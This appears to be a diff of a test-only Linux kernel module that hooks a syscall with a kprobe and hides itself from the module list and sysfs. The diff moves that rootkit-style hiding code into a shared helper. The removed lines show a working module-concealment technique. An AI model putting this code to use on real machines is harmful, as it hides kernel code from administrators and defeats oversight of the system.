@@ -14,11 +14,9 @@
  * teardown would find no directory).  For testing only; loaded in a
  * disposable test guest.
  */
-#include <linux/kobject.h>
-#include <linux/kprobes.h>
-#include <linux/module.h>
 #include <linux/proc_fs.h>
-#include <linux/rculist.h>
+
+#include "rkit.h"
 
 static char *sym = "__x64_sys_sysinfo";
 module_param(sym, charp, 0444);
@@ -26,9 +24,7 @@ static int hide = 1;
 module_param(hide, int, 0444);
 static ulong hits;
 
-static struct list_head *modules_head;
-static struct kset *kset;
-static bool hidden, registered;
+static bool registered;
 
 static int pre(struct kprobe *p, struct pt_regs *regs)
 {
@@ -38,29 +34,12 @@ static int pre(struct kprobe *p, struct pt_regs *regs)
 
 static struct kprobe kp = { .pre_handler = pre };
 
-static struct list_head *find_head(void)
-{
-	struct list_head *p;
-	int n = 0;
-
-	for (p = THIS_MODULE->list.next; p != &THIS_MODULE->list && n < 100000; p = p->next, n++)
-		if ((unsigned long)p < MODULES_VADDR || (unsigned long)p >= MODULES_END)
-			return p;
-	return NULL;
-}
-
 static ssize_t ctl_write(struct file *f, const char __user *buf, size_t len, loff_t *off)
 {
 	if (registered)
 		unregister_kprobe(&kp);
 	registered = false;
-	if (hidden) {
-		list_add_tail_rcu(&THIS_MODULE->list, modules_head);
-		spin_lock(&kset->list_lock);
-		list_add_tail(&THIS_MODULE->mkobj.kobj.entry, &kset->list);
-		spin_unlock(&kset->list_lock);
-		hidden = false;
-	}
+	rkit_unhide();
 	pr_info("hookkp: kprobe removed, module listed\n");
 	return len;
 }
@@ -81,16 +60,15 @@ static int __init hookkp_init(void)
 	pr_info("hookkp: kprobe on %s at %px, handler %px\n", sym, kp.addr, pre);
 	if (!hide)
 		return 0;
-	modules_head = find_head();
-	kset = THIS_MODULE->mkobj.kobj.kset;
-	if (!modules_head || !kset || !proc_create("hookkp", 0200, NULL, &ctl_ops)) {
+	if (!proc_create("hookkp", 0200, NULL, &ctl_ops)) {
 		unregister_kprobe(&kp);
+		return -ENOMEM;
+	}
+	if (rkit_hide()) {
+		unregister_kprobe(&kp);
+		remove_proc_entry("hookkp", NULL);
 		return -ENOENT;
 	}
-	kset_get(kset);
-	list_del(&THIS_MODULE->list);
-	kobject_del(&THIS_MODULE->mkobj.kobj);
-	hidden = true;
 	return 0;
 }
 
